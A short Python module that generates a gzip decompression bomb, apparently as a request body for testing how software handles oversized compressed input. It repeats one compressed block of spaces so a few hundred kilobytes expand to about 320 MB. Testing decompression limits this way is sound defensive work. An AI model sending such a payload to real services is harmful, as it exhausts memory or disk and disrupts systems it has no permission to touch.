"""A gzip body of a few hundred kilobytes that expands to hundreds of megabytes."""

from __future__ import annotations

import struct
import zlib
from functools import cache

BLOCK_BYTES = 1024 * 1024
BLOCKS = 320
GZIP_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"


@cache
def gzip_bomb() -> bytes:
    """320 MB of spaces in one gzip member: one compressed block many times over."""
    block = b" " * BLOCK_BYTES
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # After a full flush nothing refers back, so that the same compressed bytes may follow themselves.
    squeezed = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    checksum = 0
    for _ in range(BLOCKS):
        checksum = zlib.crc32(block, checksum)
    trailer = struct.pack("<II", checksum, BLOCK_BYTES * BLOCKS & 0xFFFFFFFF)
    return GZIP_HEADER + squeezed * BLOCKS + deflate.flush() + trailer
